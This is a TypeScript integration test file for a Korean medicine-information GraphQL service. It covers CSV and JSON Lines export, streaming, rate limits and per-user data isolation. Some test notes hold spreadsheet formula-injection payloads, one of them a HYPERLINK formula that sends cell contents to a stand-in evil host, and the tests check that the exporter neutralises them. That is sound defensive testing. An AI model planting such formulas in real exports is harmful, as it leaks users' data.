import { request, type IncomingMessage } from 'node:http'
import { Redis } from 'ioredis'
import { describe, expect, onTestFinished, test, vi } from 'vitest'
import { fromGlobalId, toGlobalId } from '../../src/graph/node.js'
import { readCsv } from '../csv.js'
import { counted } from '../statements.js'
import { createWorld, type Person, type World } from '../world.js'

type Server = Pick<World, 'url' | 'ask' | 'send'>
type Headers = Record<string, string>
interface Medicine {
  name: string
  itemSeq: string
  indications: string | null
  precautions: string | null
  provenance: { source: string; stale: boolean }
}
interface Page<Node> {
  edges: { cursor: string; matchedBy?: string; node: Node }[]
  pageInfo: { hasNextPage: boolean; endCursor: string | null }
}
interface Told {
  errors?: { message: string; extensions: { code: string } }[]
}

const MEDICINE = 'name itemSeq indications precautions provenance { source stale }'
const LISTED = `query ($first: Int!, $after: String) { page: medicines(search: "내려받기", first: $first, after: $after) {
  edges { cursor matchedBy node { ${MEDICINE} } } pageInfo { hasNextPage endCursor } } }`
const ALL = `query Medicines { medicines(search: "내려받기") { nodes { ${MEDICINE} } } }`

/** Texts that are hard to write down, one after the other. */
const HARD = [
  '쉼표, 하나',
  '그는 "먹지 마라" 했다.',
  '첫 줄\n둘째 줄',
  '=1+1',
  '-5℃ 이하',
  '＋더하기',
  '@',
  '한글 😀 𠮷',
  '  앞뒤 ',
]
const medicines = (count: number) =>
  Array.from({ length: count }, (_, at) => {
    const hard = HARD[at % HARD.length] ?? ''
    return { name: `내려받기${at}정`, indications: at % 10 === 0 ? null : `${at}. ${hard}`, precautions: hard }
  })

const take = (server: Server, query: string, accept = 'application/jsonl', headers: Headers = {}, variables = {}) =>
  fetch(`${server.url}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', accept, ...headers },
    body: JSON.stringify({ query, variables }),
  })

const as = ({ accessToken }: Pick<Person, 'accessToken'>) => ({ authorization: `Bearer ${accessToken}` })

const linesIn = <T>(text: string) =>
  text
    .split('\n')
    .slice(0, -1)
    .map(line => JSON.parse(line) as T)

async function cellsIn(response: Response): Promise<string[][]> {
  const bytes = Buffer.from(await response.arrayBuffer())
  expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
  return readCsv(bytes.subarray(3).toString())
}

/** All there are, as anybody would page through them by hand. */
async function byHand<Node>(ask: World['ask'], query: string, variables: object = {}): Promise<Page<Node>['edges']> {
  const edges: Page<Node>['edges'] = []
  for (let after: string | null = null; ;) {
    const { page }: { page: Page<Node> } = await ask(query, { ...variables, first: 100, after })
    edges.push(...page.edges)
    if (!page.pageInfo.hasNextPage) return edges
    after = page.pageInfo.endCursor
  }
}

/** A client that reads nothing before it is told to. */
async function openIdle(server: Server, query: string, headers: Headers) {
  const outgoing = request(`${server.url}/graphql`, {
    method: 'POST',
    agent: false,
    headers: { 'content-type': 'application/json', ...headers },
  })
  outgoing.on('error', () => undefined) // whoever leaves is told that it was cut
  onTestFinished(() => void outgoing.destroy())
  outgoing.end(JSON.stringify({ query }))
  const response = await new Promise<IncomingMessage>(resolve => outgoing.once('response', resolve))
  const state = { text: '', isCut: false }
  response.on('error', () => (state.isCut = true))
  const read = () => response.setEncoding('utf8').on('data', (text: string) => (state.text += text))
  return { response, state, read, leave: () => outgoing.destroy() }
}

const operations = (world: Pick<World, 'metricsPort'>) => counted(world, 'api_response_time_seconds_count')

/** How many there were when no more came: nothing tells that but time. */
async function untilNoMore(world: Pick<World, 'metricsPort'>): Promise<number> {
  for (let last = -1; ;) {
    const now = await operations(world)
    if (now === last) return now
    last = now
    await new Promise(done => setTimeout(done, 500))
  }
}

test('2,500 medicines come whole, as CSV and as JSON Lines, as paging by hand gives them', async () => {
  const world = await createWorld({ medicines: medicines(2_500) })
  const edges = await byHand<Medicine>(world.ask, LISTED)
  expect(edges).toHaveLength(2_500)
  const nodes = edges.map(({ node }) => node)

  const json = await take(world, ALL)
  expect(json.headers.get('content-disposition')).toBe('attachment; filename="Medicines.jsonl"')
  expect(linesIn<Medicine>(await json.text())).toEqual(nodes)

  const csv = await take(world, ALL, 'text/csv')
  expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8')
  expect(csv.headers.get('content-disposition')).toBe('attachment; filename="Medicines.csv"')
  const text = (value: string | null) => (/^\s*[=＋@-]/u.test(value ?? '') ? `'${value}` : (value ?? ''))
  expect(await cellsIn(csv)).toEqual([
    ['name', 'itemSeq', 'indications', 'precautions', 'provenance.source', 'provenance.stale'],
    ...nodes.map(({ name, itemSeq, indications, precautions, provenance: { source, stale } }) => [
      ...[name, itemSeq, text(indications), text(precautions), source, String(stale)],
    ]),
  ])

  const withCursors = await take(world, LISTED, 'text/csv', {}, { first: 3, after: edges[2_399]?.cursor })
  const [head, ...rows] = await cellsIn(withCursors)
  expect(head?.slice(0, 3)).toEqual(['edge.cursor', 'edge.matchedBy', 'name'])
  expect(rows.map(row => row.slice(0, 3))).toEqual(
    edges.slice(2_400).map(({ cursor, matchedBy = '', node: { name } }) => [cursor, matchedBy, name]),
  )
})

test('nothing found is a header and no row', async () => {
  const world = await createWorld({ medicines: medicines(1) })
  const query = '{ medicines(search: "없는이름입니다") { nodes { name provenance { source } } } }'
  expect(await (await take(world, query, 'text/csv')).text()).toBe('name,provenance.source\r\n') // fetch takes the BOM away
  expect(await (await take(world, query)).text()).toBe('')
})

test('while medicines come in, each of those that were there is taken away once', async () => {
  const world = await createWorld({ medicines: medicines(800) })
  const before = (await byHand<Medicine>(world.ask, LISTED)).map(({ node }) => node.itemSeq)
  const { read, response, state } = await openIdle(world, ALL, { accept: 'application/jsonl' })
  read()
  for (let at = 0; !response.complete; at++) await world.given({ name: `내려받기가${at}정` })
  const taken = linesIn<Medicine>(state.text).map(({ itemSeq }) => itemSeq)
  expect(new Set(taken).size).toBe(taken.length)
  expect(taken.filter(code => before.includes(code))).toEqual(before)
})

describe('however much it is, the server holds no more than a page of it', () => {
  const LONG = '{ medicines(search: "내려받기") { nodes { itemSeq precautions } } }'
  const long = '가나다라마바사아자차 '.repeat(320) // 10 kB

  /** 25 MB of medicines, given in parts that PostgreSQL takes in time. */
  async function many() {
    const all = Array.from({ length: 2_500 }, (_, at) => ({ name: `내려받기${at}정`, precautions: `${at} ${long}` }))
    const world = await createWorld({ medicines: all.slice(0, 100), env: { METRICS_PORT: '0' } })
    for (let at = 100; at < all.length; at += 100) await world.given(...all.slice(at, at + 100))
    return world
  }

  test('a client that reads nothing stops the reading of pages, and one that goes on reading gets all of it', async () => {
    const world = await many()
    const before = await operations(world)
    const { read, response, state } = await openIdle(world, LONG, { accept: 'application/jsonl' })
    const pages = await untilNoMore(world)
    expect(pages - before).toBeLessThan(20) // the network's own buffers take the first of them
    read()
    await vi.waitFor(() => expect(response.complete).toBe(true), { timeout: 30_000 })
    expect(linesIn<Medicine>(state.text)).toHaveLength(2_500)
    expect((await operations(world)) - before).toBe(25)
  })

  test('a client that leaves stops it', async () => {
    const world = await many()
    const before = await operations(world)
    const { response, leave } = await openIdle(world, LONG, { accept: 'text/csv' })
    response.once('data', leave)
    const pages = await untilNoMore(world)
    expect(pages - before).toBeLessThan(25)
    expect((await world.send('{ viewer { id } }')).status).toBe(200)
  })
})

describe('the rate limit', () => {
  const left = ({ headers }: { headers: globalThis.Headers }) =>
    Number(/;r=(\d+)/.exec(headers.get('ratelimit') ?? '')?.[1])

  /** Lets time pass for what Redis has counted, by whose clock the window slides. */
  async function growOlder(world: World, seconds: number) {
    const redis = new Redis(String(world.redisUrl))
    onTestFinished(() => redis.disconnect())
    for (const key of await redis.keys('pilling:rate:*')) {
      const older = (await redis.lrange(key, 0, -1)).map(instant => String(Number(instant) - seconds * 1_000))
      await redis
        .multi()
        .del(key)
        .rpush(key, ...older)
        .exec()
    }
  }

  test('each page counts', async () => {
    const world = await createWorld({ medicines: medicines(250), env: { RATE_LIMIT_PER_MINUTE: '60' } })
    const person = await world.signIn()
    const response = await take(world, ALL, 'text/csv', as(person))
    expect(left(response)).toBe(59)
    expect(await cellsIn(response)).toHaveLength(251)
    expect(left(await person.send('{ viewer { id } }'))).toBe(56)
  })

  test('where nothing is left a file waits, and one that has not begun is refused', async () => {
    const world = await createWorld({ medicines: medicines(450), env: { RATE_LIMIT_PER_MINUTE: '8' } })
    const person = await world.signIn()
    for (let i = 0; i < 6; i++) await person.ask('{ viewer { id } }')
    await growOlder(world, 57)
    const response = await take(world, ALL, 'application/jsonl', as(person))
    expect(left(response)).toBe(1)
    expect(linesIn<Medicine>(await response.text())).toHaveLength(450)
    for (let i = 0; i < 5; i++) await person.send('{ viewer { id } }')
    const refused = await take(world, ALL, 'text/csv', as(person))
    expect([refused.status, await refused.json()]).toMatchObject([
      429,
      { errors: [{ extensions: { code: 'RATE_LIMITED' } }] },
    ])
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0)
  })

  test('a file ends where the session does', async () => {
    const world = await createWorld({ medicines: medicines(450), env: { RATE_LIMIT_PER_MINUTE: '8' } })
    const person = await world.signIn()
    for (let i = 0; i < 5; i++) await person.ask('{ viewer { id } }')
    await growOlder(world, 56)
    const { read, state, response } = await openIdle(world, ALL, { accept: 'application/jsonl', ...as(person) })
    read()
    await vi.waitFor(() => expect(linesIn(state.text)).toHaveLength(300))
    await world.ask('mutation ($token: String!) { signOut(refreshToken: $token) { userErrors { code } } }', {
      token: person.refreshToken,
    })
    await vi.waitFor(() => expect(response.complete).toBe(true), { timeout: 10_000 })
    expect(linesIn<Told>(state.text).at(-1)?.errors).toMatchObject([{ extensions: { code: 'UNAUTHENTICATED' } }])
    expect(linesIn(state.text)).toHaveLength(301)
  })
})

describe('what is a person’s own', () => {
  const SCRAPS = `{ viewer { id nickname scraps { edges { cursor node { id category notes medicine { name } } } } } }`
  const EDGES = `query ($first: Int!, $after: String) { viewer { page: scraps(first: $first, after: $after) {
    edges { cursor node { id category notes medicine { name } } } pageInfo { hasNextPage endCursor } } } }`
  interface Scrap {
    id: string
    category: string
    notes: string
    medicine: { name: string }
  }

  async function twoPeople() {
    const world = await createWorld({ medicines: medicines(120) })
    const [minji, jun] = [await world.signIn('민지'), await world.signIn('준')]
    const save = (person: Person, at: number, notes: string) =>
      person.ask('mutation ($input: SaveScrapInput!) { saveScrap(input: $input) { userErrors { message } } }', {
        input: { medicineId: toGlobalId('Medicine', world.known[at]?.itemSeq ?? ''), notes },
      })
    const formulas = [
      '=HYPERLINK("https://evil.example/?"&A1,"눌러")',
      '+82 10',
      '-',
      '@SUM(A1:A9)',
      '＝1',
      '안전한 메모',
    ]
    for (let at = 0; at < 120; at++) await save(minji, at, formulas[at % formulas.length] ?? '')
    for (let at = 0; at < 7; at++) await save(jun, at, `준의 비밀 ${at}`)
    return { world, minji, jun }
  }

  test('is taken away by nobody else, and no cell of it is a formula', async () => {
    const { world, minji, jun } = await twoPeople()
    const ask: World['ask'] = async <T>(query: string, variables?: Record<string, unknown>) =>
      (await minji.ask<{ viewer: T }>(query, variables)).viewer
    const edges = await byHand<Scrap>(ask, EDGES)
    const csv = await cellsIn(await take(world, SCRAPS, 'text/csv', as(minji)))
    expect(csv[0]).toEqual(['edge.cursor', 'id', 'category', 'notes', 'medicine.name'])
    expect(csv.slice(1).map(([cursor, id, , notes]) => [cursor, id, notes])).toEqual(
      edges.map(({ cursor, node: { id, notes } }) => [cursor, id, notes === '안전한 메모' ? notes : `'${notes}`]),
    )
    expect(csv).toHaveLength(121)
    const json = await (await take(world, SCRAPS, 'application/jsonl', as(minji))).text()
    expect(linesIn<Scrap>(json)).toEqual(edges.map(({ cursor, node }) => ({ ...node, edge: { cursor } })))
    expect(JSON.stringify(csv) + json).not.toContain('준의 비밀')
    expect(await cellsIn(await take(world, SCRAPS, 'text/csv', as(jun)))).toHaveLength(8)
  })

  test('is an empty file to nobody: who has not signed in is told so', async () => {
    const world = await createWorld({ medicines: medicines(1) })
    for (const accept of ['text/csv', 'application/jsonl']) {
      const response = await take(world, SCRAPS, accept)
      expect([response.status, response.headers.get('www-authenticate')]).toEqual([401, 'Bearer'])
      expect(await response.json()).toMatchObject({ errors: [{ extensions: { code: 'UNAUTHENTICATED' } }] })
    }
  })

  test('with an analyst’s API token as with a session', async () => {
    const { world, jun } = await twoPeople()
    const { id } = fromGlobalId(jun.id)
    await world.app.users.roles.grant(id, 'ANALYST')
    const { token } = await world.app.users.apiTokens.issue(id, { name: '내려받기', days: 1 })
    const rows = await cellsIn(await take(world, SCRAPS, 'text/csv', as({ accessToken: token })))
    expect(rows.slice(1).every(([, , , notes]) => notes?.startsWith('준의 비밀'))).toBe(true)
    expect(rows).toHaveLength(8)
    const sessions = await take(
      world,
      '{ viewer { sessions { nodes { device } } } }',
      'text/csv',
      as({ accessToken: token }),
    )
    expect([sessions.status, await sessions.json()]).toMatchObject([
      403,
      { errors: [{ extensions: { code: 'FORBIDDEN' } }] },
    ])
  })

  test('doses of four months, with what they are of', async () => {
    const world = await createWorld({ medicines: medicines(1) })
    const person = await world.signIn()
    const dayIn = (days: number) => new Date(world.clock.now() + days * 86_400_000).toISOString().slice(0, 10)
    const input = {
      medicineId: toGlobalId('Medicine', world.known[0]?.itemSeq ?? ''),
      ...{ times: ['08:00', '20:00'], startsOn: dayIn(1), endsOn: dayIn(120), dose: { amount: 1.5, unit: '정' } },
    }
    await person.ask(
      'mutation ($input: CreateRegimenInput!) { createRegimen(input: $input) { userErrors { message } } }',
      { input },
    )
    const span = `to: "${dayIn(200)}T00:00:00Z"`
    const fields = 'scheduledTime status dose { amount unit } regimen { times daysOfWeek } medicine { name }'
    const query = (rest: string) => `query ($first: Int, $after: String) { viewer { page: schedules(${span}${rest}) {
      edges { node { ${fields} } } pageInfo { hasNextPage endCursor } } } }`
    const csv = await cellsIn(
      await take(world, query('').replace('($first: Int, $after: String)', ''), 'text/csv', as(person)),
    )
    expect(csv[0]).toEqual([
      ...[
        'scheduledTime',
        'status',
        'dose.amount',
        'dose.unit',
        'regimen.times',
        'regimen.daysOfWeek',
        'medicine.name',
      ],
    ])
    const ask: World['ask'] = async <T>(asked: string, variables?: Record<string, unknown>) =>
      (await person.ask<{ viewer: T }>(asked, variables)).viewer
    const doses = await byHand<{ scheduledTime: string; status: string }>(ask, query(', first: $first, after: $after'))
    expect(csv.slice(1).map(([at, status]) => [at, status])).toEqual(
      doses.map(({ node: { scheduledTime, status } }) => [scheduledTime, status]),
    )
    expect(csv.length).toBeGreaterThan(200)
    expect(csv[1]?.slice(2, 5)).toEqual(['1.5', '정', '08:00 | 20:00'])
  })
})

test('what no file can be made of is told in Korean, and JSON is still what comes where it is asked for', async () => {
  const world = await createWorld({ medicines: medicines(1) })
  const itemSeq = world.known[0]?.itemSeq
  const refused = await take(world, `{ medicine(itemSeq: "${itemSeq}") { name } }`, 'text/csv')
  expect([refused.status, refused.headers.get('content-type')]).toEqual([400, 'application/json; charset=utf-8'])
  expect(await refused.json()).toMatchObject({
    errors: [{ message: /connection\(쪽으로 나뉜 목록\)만/, extensions: { code: 'BAD_USER_INPUT' } }].map(error => ({
      ...error,
      message: expect.stringMatching(error.message) as string,
    })),
  })
  const json = await take(world, ALL, 'text/csv;q=0.5, application/json')
  expect(await json.json()).toMatchObject({ data: { medicines: { nodes: [{ itemSeq }] } } })
})
